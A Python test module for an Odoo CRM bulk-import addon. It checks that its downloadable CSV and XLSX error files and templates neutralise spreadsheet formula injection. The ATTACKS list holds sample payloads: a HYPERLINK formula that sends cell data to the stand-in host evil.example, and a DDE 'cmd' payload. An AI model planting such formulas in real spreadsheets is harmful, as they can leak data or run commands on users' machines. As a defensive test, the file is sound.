# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Formula injection (CSV injection): no file this module lets a user
download makes a spreadsheet run a cell as a formula. Every file is read
back: CSV cells that start with = + - @ (tab, CR) carry a leading quote,
XLSX cells are text (no <f> element anywhere)."""

import csv
import io
import zipfile

import openpyxl

from odoo.addons.crm_bulk_import.readers import read_table
from odoo.addons.crm_bulk_import.writers import write_xlsx

from .common import BulkImportCase, attachment_content, csv_bytes

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]


class TestFormulaInjection(BulkImportCase):
    def assert_csv_safe(self, content, expected_cells=()):
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        for cell in cells:
            self.assertFalse(cell.startswith(FORMULA_STARTS), f"a spreadsheet would run {cell!r}")
        for value in expected_cells:
            self.assertIn("'" + value, cells)
        return rows

    def assert_xlsx_safe(self, content, expected_cells=()):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    self.assertNotIn(b"<f>", archive.read(name), f"{name} holds a formula")
                    self.assertNotIn(b"<f ", archive.read(name), f"{name} holds a formula")
        book = openpyxl.load_workbook(io.BytesIO(content))
        texts = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        self.assertNotEqual(cell.data_type, "f", f"{sheet.title}!{cell.coordinate} is a formula")
                        texts.add(cell.value)
        for value in expected_cells:
            self.assertIn(value, texts, "kept as text, unchanged")

    def failing_rows(self):
        # Unknown external ids: each row fails and lands in the error file.
        return [[attack, "alice@example.com", ""] for attack in ATTACKS]

    def test_csv_error_file(self):
        job = self.make_job(csv_bytes([self.HEADER] + self.failing_rows()))
        job.action_import()
        self.assertEqual(job.count_error, len(ATTACKS))
        content = attachment_content(self.env, job.action_download_errors())
        rows = self.assert_csv_safe(content, ATTACKS)
        self.assertEqual(rows[0], self.HEADER + ["Error"])
        # The quote is undone when the fixed file comes back.
        self.assertEqual([values[0] for _row, values in read_table(content).rows], ATTACKS)

    def test_xlsx_error_file(self):
        job = self.make_job(write_xlsx(self.HEADER, self.failing_rows()), file_name="assignment.xlsx")
        job.action_import()
        self.assertEqual(job.count_error, len(ATTACKS))
        content = attachment_content(self.env, job.action_download_errors())
        self.assert_xlsx_safe(content, ATTACKS)
        self.assertEqual([values[0] for _row, values in read_table(content).rows], ATTACKS)

    def test_templates_of_every_type(self):
        """Dropdown values come from records (plans, workflows, groups, users):
        a record named like a formula stays text in every template."""
        self.env["mail.activity.plan"].create({"name": ATTACKS[0], "res_model": "res.partner"})
        self.env["product.product"].create({"name": ATTACKS[1], "subscribable": True, "type": "service"})
        self.env["room.permission.group"].create({"name": ATTACKS[2], "company_id": self.company.id})
        workflow = self.env["prospect.workflow"].create({"name": "Welcome"})
        self.env["prospect.group"].create({"name": ATTACKS[3], "workflow_id": workflow.id})
        self.alice.email = "=1+1@example.com"
        expected = {
            "assignment": [ATTACKS[0], "=1+1@example.com"],
            "member": [ATTACKS[1]],
            "promote": [ATTACKS[1], ATTACKS[2]],
            "prospect": [ATTACKS[3]],
            "lead": [],
        }
        for import_type, values in expected.items():
            with self.subTest(import_type=import_type):
                wizard = self.env["crm.bulk.import.wizard"].create({"import_type": import_type})
                self.assert_csv_safe(attachment_content(self.env, wizard.action_download_template_csv()))
                xlsx = attachment_content(self.env, wizard.action_download_template_xlsx())
                self.assert_xlsx_safe(xlsx, values)
